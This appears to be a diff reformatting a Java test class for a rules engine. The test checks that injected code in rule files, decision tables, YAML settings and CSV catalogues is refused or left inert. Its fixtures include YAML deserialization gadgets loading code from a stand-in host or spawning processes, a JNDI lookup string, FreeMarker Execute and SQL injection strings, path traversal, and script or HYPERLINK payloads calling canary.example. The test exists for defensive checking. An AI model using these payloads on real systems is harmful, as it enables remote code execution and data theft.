@@ -80,8 +80,7 @@ class RulesRunNoCodeTest {
         return "rule \"X\"\nwhen\n    " + lines + "\nthen\n    Recommend \"act\" because \"so\"\nend\n";
     }
 
-    private static final String SENTENCES =
-            """
+    private static final String SENTENCES = """
             [when]The client is active=Client( status == "active" )
             [when]- with at least {months} months of tenure=tenureMonths >= {months}
             [then]Recommend "{it}" because "{why}"=decision.recommend("{it}").because("{why}");
@@ -100,13 +99,19 @@ class RulesRunNoCodeTest {
 
         @Override
         public String toString() {
-            return path + " " + text.lines().filter(line -> line.contains("anary")).findFirst().orElse(text);
+            return path + " "
+                    + text.lines()
+                            .filter(line -> line.contains("anary"))
+                            .findFirst()
+                            .orElse(text);
         }
 
         SourceFiles files() {
             return new SmallBook()
                     .with("vocabulary.dsl", SENTENCES)
-                    .with("retention/told.dslr", told("Recommend \"act\" because \"told\"").replace("X", "Told"))
+                    .with(
+                            "retention/told.dslr",
+                            told("Recommend \"act\" because \"told\"").replace("X", "Told"))
                     .with(path, text)
                     .files();
         }
@@ -153,9 +158,7 @@ class RulesRunNoCodeTest {
             drl(acting("X", "java.io.File( canary == 1 )")),
             drl(acting("X", "accumulate( Purchase(); $n : sum( " + SET + " ); $n > 1 )")),
             drl(acting("X", "accumulate( Purchase(); $n : canary(1); $n > 1 )")),
-            drl(acting(
-                    "X",
-                    "Number() from accumulate( Purchase(), init( " + SET + "; ) action( ) result( 1 ) )")),
+            drl(acting("X", "Number() from accumulate( Purchase(), init( " + SET + "; ) action( ) result( 1 ) )")),
             drl(acting("X", "Client( status == \"active\" ) ?canary( $x ; )")),
             drl(acting("X", "forall( Client( " + SET + " == null ) )")),
             // consequences
@@ -218,10 +221,12 @@ class RulesRunNoCodeTest {
             table("Variables,java.lang.Runtime canary\n" + inAction("decision.recommend(\"$param\");", "act")),
             table("Queries,query canary() end\n" + inAction("decision.recommend(\"$param\");", "act")),
             // settings and catalogue
-            book("name: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://canary.example\"]]]]\n"
-                    + SmallBook.BOOK.replace("name: Small\n", "")),
+            book(
+                    "name: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://canary.example\"]]]]\n"
+                            + SmallBook.BOOK.replace("name: Small\n", "")),
             book(SmallBook.BOOK + "influence: !!java.util.ArrayList [!!java.io.File [\"canary\"]]\n"),
-            book(SmallBook.BOOK.replace("newsletter: boolean", "newsletter: !!java.io.FileWriter [\"" + FILE + "\"] # canary")),
+            book(SmallBook.BOOK.replace(
+                    "newsletter: boolean", "newsletter: !!java.io.FileWriter [\"" + FILE + "\"] # canary")),
             book(SmallBook.BOOK.replace("newsletter: boolean", "canary: !!java.lang.Runtime {}")),
             book(SmallBook.BOOK.replace("Europe/Berlin", "!!java.lang.ProcessBuilder [[\"touch\", \"" + FILE + "\"]]")),
             new Attempt("actions.csv", SmallBook.ACTIONS + SmallBook.SELL.replace("sell-it", "../../canary")),
@@ -231,9 +236,8 @@ class RulesRunNoCodeTest {
     @ParameterizedTest(name = "{index} {0}")
     @FieldSource("REFUSED")
     void isRefusedWhereItStands(Attempt attempt) {
-        List<Diagnostic> told = RuleBookCompiler.standard()
-                .compile(attempt.files())
-                .fold(book -> List.<Diagnostic>of(), all -> all);
+        List<Diagnostic> told =
+                RuleBookCompiler.standard().compile(attempt.files()).fold(book -> List.<Diagnostic>of(), all -> all);
 
         List<Integer> lines = new ArrayList<>(List.of(attempt.line()));
         List<String> text = attempt.text().lines().toList();
@@ -252,7 +256,8 @@ class RulesRunNoCodeTest {
     }
 
     static final List<Attempt> INERT = List.of(
-            drl(speaking("decision.recommend(\"act\").because(\"$jndi:ldap://canary.example #T(Canary) <#assign x=1>\");")),
+            drl(speaking(
+                    "decision.recommend(\"act\").because(\"$jndi:ldap://canary.example #T(Canary) <#assign x=1>\");")),
             drl(speaking("decision.recommend(\"act\").because(\"\\\"); System.setProperty('canary', 'x'); //\");")),
             drl(rule("${canary} '); DROP TABLE x; <script>", "Client( status == \"active\" )", SmallBook.ACT)),
             dslr(told("Recommend \"act\" because \"<script>fetch('http://canary.example')</script>\"")),
@@ -263,9 +268,10 @@ class RulesRunNoCodeTest {
                     SmallBook.ACTIONS.replace(",Act,", ",\"=HYPERLINK(\"\"http://canary.example\"\")\",")),
             new Attempt(
                     "services.csv",
-                    SmallBook.SERVICES.replace(
-                            "Hosting", "<#assign canary=\"\"freemarker.template.utility.Execute\"\"?new()>")
-                            .replace("<#", "\"<#").replace("()>", "()>\"")),
+                    SmallBook.SERVICES
+                            .replace("Hosting", "<#assign canary=\"\"freemarker.template.utility.Execute\"\"?new()>")
+                            .replace("<#", "\"<#")
+                            .replace("()>", "()>\"")),
             book(SmallBook.BOOK.replace("name: Small", "name: \"${canary} #{Runtime}\"")));
 
     @ParameterizedTest(name = "{index} {0}")
@@ -311,11 +317,10 @@ class RulesRunNoCodeTest {
         try (XSSFWorkbook workbook = new XSSFWorkbook();
                 ByteArrayOutputStream out = new ByteArrayOutputStream()) {
             Sheet sheet = workbook.createSheet();
-            List<List<String>> rows = io.holdfast.source.CsvFile.read("x", csv, new io.holdfast.source.Diagnostics())
-                    .rows()
-                    .stream()
-                    .map(io.holdfast.source.CsvRow::cells)
-                    .toList();
+            List<List<String>> rows =
+                    io.holdfast.source.CsvFile.read("x", csv, new io.holdfast.source.Diagnostics()).rows().stream()
+                            .map(io.holdfast.source.CsvRow::cells)
+                            .toList();
             for (int r = 0; r < rows.size(); r++) {
                 Row row = sheet.createRow(r);
                 for (int c = 0; c < rows.get(r).size(); c++) {
